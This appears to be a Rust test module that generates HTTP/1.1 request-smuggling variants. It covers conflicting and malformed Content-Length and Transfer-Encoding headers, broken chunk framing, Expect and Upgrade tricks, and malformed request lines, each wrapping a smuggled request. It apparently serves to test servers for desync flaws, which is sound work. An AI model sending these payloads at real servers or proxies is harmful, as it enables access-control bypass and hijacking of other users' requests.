//! What is sent over HTTP/1.1. In each text `{S}` is the smuggled request, `{n}` its length in decimal
//! digits, `{x}` in hexadecimal ones.

use super::SMUGGLED;
use crate::support::{Browser, raw};

/// Lines that say how long the body is, and what follows the head.
const FRAMINGS: &[(&str, &str)] = &[
    // Two lengths at once.
    (
        "Content-Length: 4\r\nTransfer-Encoding: chunked",
        "0\r\n\r\n{S}",
    ),
    (
        "Transfer-Encoding: chunked\r\nContent-Length: 4",
        "0\r\n\r\n{S}",
    ),
    ("Content-Length: {n}\r\nTransfer-Encoding: chunked", "{S}"),
    (
        "Content-Length: 6\r\nTransfer-Encoding: chunked",
        "0\r\n\r\nG{S}",
    ),
    ("Content-Length: 5\r\nContent-Length: 5", "abcde{S}"),
    ("Content-Length: 5\r\nContent-Length: 0", "abcde{S}"),
    ("Content-Length: 0\r\nContent-Length: {n}", "{S}"),
    ("Content-Length: 5, 5", "abcde{S}"),
    ("Content-Length: 5, 0", "abcde{S}"),
    ("Content-Length: 0,{n}", "{S}"),
    ("Content-Length: 0\r\nContent_Length: {n}", "{S}"),
    ("Content-Length: 0\r\nContent.Length: {n}", "{S}"),
    // Numbers that some parser reads, or reads otherwise.
    ("Content-Length: +5", "abcde{S}"),
    ("Content-Length: -5", "abcde{S}"),
    ("Content-Length: -0", "{S}"),
    ("Content-Length: 005", "abcde{S}"),
    ("Content-Length: 010", "abcdefgh{S}"),
    ("Content-Length: 0x5", "abcde{S}"),
    ("Content-Length: 5 5", "abcde{S}"),
    ("Content-Length: 5;", "abcde{S}"),
    ("Content-Length: 5.0", "abcde{S}"),
    ("Content-Length: 5e0", "abcde{S}"),
    ("Content-Length: 5_0", "abcde{S}"),
    ("Content-Length: \u{665}", "abcde{S}"),
    ("Content-Length: 5\0", "abcde{S}"),
    ("Content-Length: \u{b}5", "abcde{S}"),
    ("Content-Length: \"5\"", "abcde{S}"),
    ("Content-Length:", "abcde{S}"),
    ("Content-Length: 18446744073709551616", "{S}"),
    ("Content-Length: 18446744073709551621", "abcde{S}"),
    ("Content-Length: 99999999999999999999999999", "{S}"),
    ("Content-Length: 5\r\n ,0", "abcde{S}"),
    ("Content-Length:\r\n 5", "abcde{S}"),
    // Names that some parser takes for the field.
    ("Content-Length : {n}", "{S}"),
    ("Content-Length\t: {n}", "{S}"),
    (" Content-Length: {n}", "{S}"),
    ("Content-Length\0: {n}", "{S}"),
    ("Content-Length\u{a0}: {n}", "{S}"),
    ("Content-Length\r: {n}", "{S}"),
    ("X: y\nContent-Length: {n}", "{S}"),
    ("X: y\rContent-Length: {n}", "{S}"),
    ("X: y\r\n Content-Length: {n}", "{S}"),
    (
        "Content-Length: 0\r\nX: y\nTransfer-Encoding: chunked",
        "{x}\r\n{S}\r\n0\r\n\r\n",
    ),
    (
        "Content-Length: 0\r\nX: y\rTransfer-Encoding: chunked",
        "{x}\r\n{S}\r\n0\r\n\r\n",
    ),
    ("Transfer-Encoding : chunked", "0\r\n\r\n{S}"),
    ("Transfer-Encoding\t: chunked", "0\r\n\r\n{S}"),
    (" Transfer-Encoding: chunked", "0\r\n\r\n{S}"),
    (
        "Transfer_Encoding: chunked\r\nContent-Length: 5",
        "0\r\n\r\n{S}",
    ),
    (
        "Transfer.Encoding: chunked\r\nContent-Length: 5",
        "0\r\n\r\n{S}",
    ),
    (
        "Transfer-Encoding\0: chunked\r\nContent-Length: 5",
        "0\r\n\r\n{S}",
    ),
    ("Transfer-Encoding:\r\n chunked", "0\r\n\r\n{S}"),
    (
        "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5",
        "0\r\n\r\n{S}",
    ),
    // Codings.
    ("Transfer-Encoding: xchunked", "0\r\n\r\n{S}"),
    (
        "Transfer-Encoding: xchunked\r\nContent-Length: 5",
        "0\r\n\r\n{S}",
    ),
    ("Transfer-Encoding: chunked, identity", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: identity, chunked", "0\r\n\r\n{S}"),
    (
        "Transfer-Encoding: identity\r\nContent-Length: 5",
        "abcde{S}",
    ),
    ("Transfer-Encoding: identity", "{S}"),
    ("Transfer-Encoding: gzip, chunked", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: chunked, chunked", "0\r\n\r\n{S}"),
    (
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "0\r\n\r\n{S}",
    ),
    (
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "0\r\n\r\n{S}",
    ),
    (
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "0\r\n\r\n{S}",
    ),
    ("Transfer-Encoding: chunked;q=1", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: \"chunked\"", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: chunked,", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: ,chunked", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: chunked x", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: chunk ed", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: \u{b}chunked", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: chunked\u{b}", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: chunked\0", "0\r\n\r\n{S}"),
    ("Transfer-Encoding:", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: CHUNKED", "0\r\n\r\n{S}"),
    ("Transfer-Encoding: \t chunked \t", "0\r\n\r\n{S}"),
    (
        "Content-Encoding: chunked\r\nContent-Length: 5",
        "0\r\n\r\n{S}",
    ),
    ("TE: chunked\r\nContent-Length: 5", "0\r\n\r\n{S}"),
    // The framing named as a field of one hop.
    (
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "{x}\r\n{S}\r\n0\r\n\r\n",
    ),
    ("Connection: Content-Length\r\nContent-Length: {n}", "{S}"),
    (
        "Connection: close, Content-Length, Transfer-Encoding\r\nContent-Length: {n}",
        "{S}",
    ),
    ("Keep-Alive: Content-Length\r\nContent-Length: {n}", "{S}"),
    // Chunks.
    ("{C}", "5;x=y\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5;x=\"\r\n\"\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5;\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "2;\nxx\r\n{x}\r\n{S}\r\n0\r\n\r\n"),
    ("{C}", "5\nabcde\n0\n\n{S}"),
    ("{C}", "5\rabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5\r\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5 \r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", " 5\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "0x5\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "+5\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "-5\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5_0\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "0000000000000000000005\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "10000000000000005\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "FFFFFFFFFFFFFFFF\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5\r\nabcdefgh\r\n0\r\n\r\n{S}"),
    ("{C}", "5\r\nabcde0\r\n\r\n{S}"),
    ("{C}", "5\r\nabcde\n0\r\n\r\n{S}"),
    ("{C}", "5\r\nabcdeXX0\r\n\r\n{S}"),
    ("{C}", "5\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "5\r\nabcde\r\n0\n\n{S}"),
    ("{C}", "5\r\nabcde\r\n0\r\r{S}"),
    ("{C}", "5\r\nabcde\r\n0;\r\n\r\n{S}"),
    ("{C}", "5\r\nabcde\r\n00\r\n\r\n{S}"),
    ("{C}", "5\r\nabcde\r\n0\r\nContent-Length: {n}\r\n\r\n{S}"),
    (
        "{C}",
        "5\r\nabcde\r\n0\r\nTransfer-Encoding: chunked\r\nX-Smuggled: 1\r\n\r\n{S}",
    ),
    ("{C}", "5\r\nabcde\r\n0\r\nX: y\n\n{S}"),
    ("{C}", "5\r\nabcde\r\n0\r\n{S}\r\n\r\n"),
    ("{C}", "\r\n5\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "\r\n\r\n{S}"),
    ("{C}", ";\r\n\r\n{S}"),
    ("{C}", "g\r\nabcde\r\n0\r\n\r\n{S}"),
    ("{C}", "{x}\r\n{S}\r\n0\r\n\r\n"),
    ("{C}", "{x}\r\n{S}"),
    // A length that is right, and more after it.
    ("Content-Length: 5", "abcde{S}"),
    ("Content-Length: {n}", "{S}"),
    ("Content-Length: 0", "{S}"),
    ("X: y", "{S}"),
    ("Content-Length: 500", "{S}"),
    // Waiting for leave.
    ("Expect: 100-continue\r\nContent-Length: 5", "abcde{S}"),
    ("Expect: 100-continue\r\nContent-Length: {n}", "{S}"),
    ("Expect: 100-continue\r\nContent-Length: 0", "{S}"),
    ("Expect: 100-continue", "{S}"),
    ("Expect: 100-continue, x\r\nContent-Length: {n}", "{S}"),
    ("Expect : 100-continue\r\nContent-Length: {n}", "{S}"),
    ("Expect: y 100-continue\r\nContent-Length: {n}", "{S}"),
    (
        "Expect: 100-continue\r\nTransfer-Encoding: chunked",
        "0\r\n\r\n{S}",
    ),
    // Another protocol.
    (
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "{S}",
    ),
    (
        "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: {n}",
        "{S}",
    ),
    (
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        "{S}",
    ),
    ("Upgrade: TLS/1.2\r\nConnection: Upgrade", "{S}"),
];

/// Whole requests. `{H}` are the host and the cookies.
const WHOLE: &[&str] = &[
    "GET {P} HTTP/1.1\n{H}\n\n{S}",
    "GET {P} HTTP/1.1\r\n{H}\r\n\n{S}",
    "GET {P} HTTP/1.1\r\n{H}\n\r\n{S}",
    "GET {P} HTTP/1.1\r\n{H}\r\n\r{S}",
    "\r\n\r\nGET {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "\n\nGET {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    " GET {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "\0GET {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "GET  {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "GET\t{P}\tHTTP/1.1\r\n{H}\r\n\r\n{S}",
    "GET {P} HTTP/1.1 \r\n{H}\r\n\r\n{S}",
    "GET {P} HTTP/1.1\r\r\n{H}\r\n\r\n{S}",
    "GET {P} HTTP/1.2\r\n{H}\r\n\r\n{S}",
    "GET {P} HTTP/2.0\r\n{H}\r\n\r\n{S}",
    "GET {P} http/1.1\r\n{H}\r\n\r\n{S}",
    "GET {P} HTTP/1.1\r\n{H}\r\nContent-Length: {n}\r\n\r\n{S}",
    "GET {P} HTTP/1.0\r\n{H}\r\nContent-Length: {n}\r\n\r\n{S}",
    "GET {P} HTTP/1.0\r\n{H}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{S}",
    "GET {P} HTTP/1.0\r\n{H}\r\nConnection: keep-alive\r\n\r\n{S}",
    "GET {P}\r\n{S}",
    "GET {P} HTTP/1.1\r\n{H}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{S}",
    "GET {P} HTTP/1.1\r\n{H}\r\nTransfer-Encoding: chunked\r\n\r\n{x}\r\n{S}\r\n0\r\n\r\n",
    "HEAD {P} HTTP/1.1\r\n{H}\r\nContent-Length: {n}\r\n\r\n{S}",
    "HEAD {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "OPTIONS * HTTP/1.1\r\n{H}\r\nContent-Length: {n}\r\n\r\n{S}",
    "DELETE {P} HTTP/1.1\r\n{H}\r\nContent-Length: {n}\r\n\r\n{S}",
    "CONNECT localhost:80 HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "CONNECT {P} HTTP/1.1\r\n{H}\r\nContent-Length: 0\r\n\r\n{S}",
    "TRACE {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "get {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "GE\u{17f} {P} HTTP/1.1\r\n{H}\r\n\r\n{S}",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{S}",
    "GET {P} HTTP/1.1\r\nX\r\n{H}\r\n\r\n{S}",
    "GET {P} HTTP/1.1\r\n X: y\r\n{H}\r\n\r\n{S}",
    "GET {P}?x=%0d%0a{S} HTTP/1.1\r\n{H}\r\n\r\n",
];

pub fn variants(visitor: &Browser, path: &str) -> Vec<Vec<u8>> {
    let fill = |text: &str| {
        text.replace("{C}", "Transfer-Encoding: chunked")
            .replace("{n}", &SMUGGLED.len().to_string())
            .replace("{x}", &format!("{:x}", SMUGGLED.len()))
            .replace("{S}", SMUGGLED)
            .replace("{P}", path)
    };
    let framed = FRAMINGS.iter().map(|(line, body)| {
        let head = raw::head(visitor, "POST", path, &[&fill(line)]);
        [head, fill(body).into_bytes()].concat()
    });
    let usual = String::from_utf8(raw::head(visitor, "GET", path, &[])).unwrap();
    let usual = usual.split_once("\r\n").unwrap().1.trim_end().to_owned();
    let whole = WHOLE.iter().map(|text| {
        let newline = if text.contains("\n{H}\n\n") {
            "\n"
        } else {
            "\r\n"
        };
        let usual = usual.replace("\r\n", newline);
        fill(text).replace("{H}", &usual).into_bytes()
    });
    framed.chain(whole).collect()
}
